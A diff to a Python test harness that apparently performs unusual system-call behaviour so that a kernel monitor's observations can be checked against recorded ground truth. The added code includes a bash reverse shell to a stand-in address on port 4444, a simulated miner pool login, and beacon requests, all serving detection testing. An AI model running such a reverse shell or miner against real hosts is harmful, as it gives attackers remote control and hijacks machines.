@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 # Acts in ways that no system call of 64 bits shows, or that are told from outside only with care, while the kernel's own
 # observers watch: inotify the folder, the process connector the processes. Their words are left in /root/truth.json.
-import base64, ctypes, json, mmap, os, select, socket, struct, subprocess, time, urllib.request
+import base64, ctypes, hashlib, json, mmap, os, select, signal, socket, struct, subprocess, time, urllib.request
 
 libc = ctypes.CDLL(None, use_errno=True)
 FOLDER = "/root/watched"
@@ -47,6 +47,8 @@ def text(value):
     return ctypes.addressof(kept[-1])
 
 kept = []
+# Facts of what was done, beside the observers' words.
+told = {"hashes": {}}
 inside = lambda name: f"{FOLDER}/{name}"
 run = lambda *words, **more: subprocess.run(words, check=True, **more)
 
@@ -68,6 +70,52 @@ def by_32_bits():
         file.write(base64.b64decode(NARROW))
     os.chmod("/root/narrow32", 0o755)
     run("/root/narrow32")
+
+def by_endless_calls():
+    with open("/root/silences", "wb") as file:
+        file.write(base64.b64decode(SILENCING))
+    os.chmod("/root/silences", 0o755)
+    run("/root/silences")
+
+def by_rare_calls():
+    how = struct.pack("<3Q", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600, 0)
+    fd = libc.syscall(437, -100, inside("opened2").encode(), how, len(how))
+    assert fd >= 0 and os.write(fd, b"x") == 1
+    os.close(fd)
+    # clone3() with SIGCHLD alone is a fork; the child is a program that is given by its descriptor.
+    child = libc.syscall(435, struct.pack("<8Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
+    if child == 0:
+        words = (ctypes.c_char_p * 3)(b"by-execveat", b"x", None)
+        libc.syscall(322, os.open("/bin/true", os.O_PATH), b"", words, None, 0x1000)
+        os._exit(1)
+    assert child > 0 and os.waitpid(child, 0)[1] == 0
+    told["child"] = child
+    # Into the keyring of the process.
+    told["key"] = key = libc.syscall(248, b"user", b"own:key", b"secret", 6, -2)
+    assert key > 0 and libc.syscall(250, 11, key, ctypes.create_string_buffer(6), 6) == 6 and libc.syscall(250, 3, key) == 0
+    # Debian's kernels refuse calls of x32 (ENOSYS).
+    assert libc.syscall(0x40000000 | 83, b"/root/x32", 0o700) == -1 and ctypes.get_errno() == 38
+
+def by_rights():
+    child = os.fork()
+    if child == 0:
+        os.setgroups([7, 8])
+        os.setresgid(12, 13, 14)
+        os.setresuid(15, 16, 17)
+        os._exit(0)
+    assert os.waitpid(child, 0)[1] == 0
+    os.mkdir("/root/mounted")
+    run("mount", "-t", "tmpfs", "none", "/root/mounted")
+    run("umount", "/root/mounted")
+
+def by_programs():
+    # Of the second one hardly a page is in memory when it begins.
+    for path in ("/usr/bin/touch", "/usr/bin/openssl"):
+        with open(path, "rb") as file:
+            told["hashes"][path] = hashlib.sha256(file.read()).hexdigest()
+            os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED if path.endswith("openssl") else os.POSIX_FADV_NORMAL)
+    run("touch", inside("touched"))
+    run("openssl", "version", stdout=subprocess.DEVNULL)
 
 def by_commands():
     lines = """
@@ -122,6 +170,35 @@ def by_network():
     for turn in range(2):
         urllib.request.urlopen(f"http://beacon.example.net/turn?{turn}", timeout=60).read()
 
+def by_silence():
+    # Who waits has been given no answer: the queue of each server is full (listen(2)), and the kernel asks once more.
+    ends = [("127.0.0.1", port) for port in (7005, 7006)]
+    servers = [socket.create_server(end, backlog=0) for end in ends]
+    first = [socket.create_connection(end) for end in ends]
+    waiting, blocking = [socket.socket() for _ in ends]
+    for one in (waiting, blocking):
+        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_SYNCNT, 1)
+    waiting.setblocking(False)
+    waiting.connect_ex(ends[0])
+    assert blocking.connect_ex(ends[1]) == 110
+    select.select([], [waiting], [], 20)
+    assert waiting.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 110
+    for one in (*servers, *first, waiting, blocking):
+        one.close()
+
+def by_miner():
+    # Works as a miner does, for the pool that it has logged in to.
+    with socket.create_connection(("192.0.2.82", 3333), timeout=20) as pool:
+        pool.sendall(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"own","pass":"x","agent":"own/1"}}\n')
+        nonce, end = 0, time.monotonic() + 1
+        while time.monotonic() < end:
+            hashlib.sha256(struct.pack("<Q", nonce).ljust(80, b"\0")).digest()
+            nonce += 1
+
+def by_reverse_shell():
+    # Whoever is at the other end says nothing that ends a shell.
+    subprocess.run(["timeout", "-s", "KILL", "3", "bash", "-c", "sh -i >& /dev/tcp/192.0.2.83/4444 0>&1"])
+
 def by_library():
     with open("/root/own.so", "wb") as file:
         file.write(base64.b64decode(LIBRARY))
@@ -146,7 +223,7 @@ def by_system():
 with open("/root/dynamic", "wb") as file:
     file.write(base64.b64decode(DYNAMIC))
 os.chmod("/root/dynamic", 0o755)
-for act in (by_ring, by_32_bits, by_commands, in_container, lambda: by_chain(100), by_network, by_library, by_system):
+for act in (by_ring, by_32_bits, by_endless_calls, by_rare_calls, by_rights, by_programs, by_commands, in_container, lambda: by_chain(100), by_network, by_silence, by_miner, by_reverse_shell, by_library, by_system):
     act()
 
 seen = set()
@@ -171,4 +248,4 @@ while True:
     if what == 2 and facts[1] in own:
         executed.append(facts[1])
 with open("/root/truth.json", "w") as file:
-    json.dump({"files": sorted(seen), "processes": sorted(own), "executed": sorted(executed)}, file)
+    json.dump({"files": sorted(seen), "processes": sorted(own), "executed": sorted(executed), **told}, file)
